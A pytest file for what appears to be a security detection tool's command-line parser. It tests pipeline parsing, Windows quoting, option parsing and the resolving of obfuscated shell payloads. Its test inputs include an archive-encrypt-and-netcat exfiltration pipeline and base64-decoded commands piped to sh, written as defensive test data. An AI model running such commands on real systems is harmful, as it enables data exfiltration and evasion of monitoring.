"""Command-line tokenising: wrappers, pipelines and Windows quoting, without a shell."""

from __future__ import annotations

import pytest

from tidewaiter.detection.cmdline import (
    MAX_VARIABLES,
    exe_name,
    parse_cmd_pipeline,
    parse_posix_pipeline,
    posix_payload,
    powershell_payload,
    split_windows,
)
from tidewaiter.detection.options import MAX_REPEATS, parse


def test_exe_names() -> None:
    assert exe_name("/usr/bin/python3.11") == "python"
    assert exe_name(r"C:\Program Files\7-Zip\7z.exe") == "7z"
    assert exe_name('"C:\\Windows\\system32\\cmd.exe"') == "cmd"
    assert exe_name(None) == ""


def test_posix_pipeline_records_pipes_and_redirections() -> None:
    first, second, third = parse_posix_pipeline(
        "tar czf - /d | gpg -c > /tmp/x.gpg; nc h 1 < /tmp/x.gpg"
    )
    assert (first.argv, first.piped_out) == (["tar", "czf", "-", "/d"], True)
    assert (second.piped_in, second.stdout_file, second.upstream) == (
        True,
        "/tmp/x.gpg",
        first.argv,
    )
    assert (third.piped_in, third.stdin_file) == (False, "/tmp/x.gpg")


def test_cmd_pipeline_keeps_quoted_operators() -> None:
    [one, two] = parse_cmd_pipeline('echo "a & b" && rar a x.rar *.docx')
    assert one.argv == ["echo", "a & b"]
    assert two.argv == ["rar", "a", "x.rar", "*.docx"]


def test_windows_splitting_keeps_backslashes() -> None:
    assert split_windows(r'"C:\Program Files\x.exe" -o C:\out\a.zip') == [
        r"C:\Program Files\x.exe",
        "-o",
        r"C:\out\a.zip",
    ]


def test_wrapper_payloads() -> None:
    assert posix_payload(["bash", "-lc", "tar czf a.tgz d"]) == "tar czf a.tgz d"
    assert posix_payload(["busybox", "sh", "-c", "ls"]) == "ls"
    assert posix_payload(["bash", "script.sh"]) is None
    assert powershell_payload(["powershell", "-NoProfile", "-Command", "Get-Date"]) == "Get-Date"
    assert powershell_payload(["powershell", "-enc", "not base64!"]) is None


def test_option_parser_clusters_values_and_old_style() -> None:
    opts = parse(["-C", "/tmp", "-xzf", "a.tgz"], value_short="Cf")
    assert opts.shorts == {"C", "x", "z", "f"}
    assert opts.values == {"-C": "/tmp", "-f": "a.tgz"}
    old = parse(["czvf", "out.tgz", "dir"], value_short="f", bundled=True)
    assert (old.values["-f"], old.positionals) == ("out.tgz", ["dir"])
    attached = parse(["-fout.tgz", "--level=9", "--", "-weird-name"], value_short="f")
    assert attached.values == {"-f": "out.tgz", "--level": "9"}
    assert attached.positionals == ["-weird-name"]


def test_an_option_given_again_keeps_every_value_in_order_and_bounded() -> None:
    parsed = parse(["--resolve", "a:443:10.0.0.1", "-x", "p:1", "--resolve=b:443:203.0.113.7"], "x")
    assert parsed.value("--resolve") == "b:443:203.0.113.7"  # the last, as most tools read it
    assert parsed.all_values("--resolve") == ["a:443:10.0.0.1", "b:443:203.0.113.7"]
    assert parsed.all_values("-x") == ["p:1"]
    assert parsed.all_values("-o") == []
    flood = parse([f"--resolve=h{n}:443:10.0.0.1" for n in range(1000)])
    assert len(flood.all_values("--resolve")) == MAX_REPEATS


@pytest.mark.parametrize(
    "payload",
    [
        "t''ar czf /tmp/a.tgz /srv",
        "t\\ar czf /tmp/a.tgz /srv",
        "T=tar; $T czf /tmp/a.tgz /srv",
        "T=tar OUT=/tmp/a.tgz; ${T} czf $OUT /srv",
        'eval "tar czf /tmp/a.tgz /srv"',
        # echo 'tar czf /tmp/a.tgz /srv' | base64
        "echo dGFyIGN6ZiAvdG1wL2EudGd6IC9zcnYK | base64 -d | sh",
        "printf %s dGFyIGN6ZiAvdG1wL2EudGd6IC9zcnYK | base64 --decode | bash -s",
    ],
)
def test_a_payload_is_read_as_the_shell_resolves_it(payload: str) -> None:
    argvs = [c.argv for c in parse_posix_pipeline(payload)]
    assert ["tar", "czf", "/tmp/a.tgz", "/srv"] in argvs


def test_nesting_and_variables_are_bounded() -> None:
    inner = 'eval "tar czf /tmp/a.tgz /srv"'
    deep = f"eval 'eval \"{inner}\"'"  # three levels: the third is not read
    assert ["tar", "czf", "/tmp/a.tgz", "/srv"] not in [c.argv for c in parse_posix_pipeline(deep)]
    many = "; ".join(f"V{n}=x" for n in range(MAX_VARIABLES)) + "; T=tar; $T czf a.tgz /srv"
    assert [c.argv for c in parse_posix_pipeline(many)][-1][0] == "$T"  # past the bound
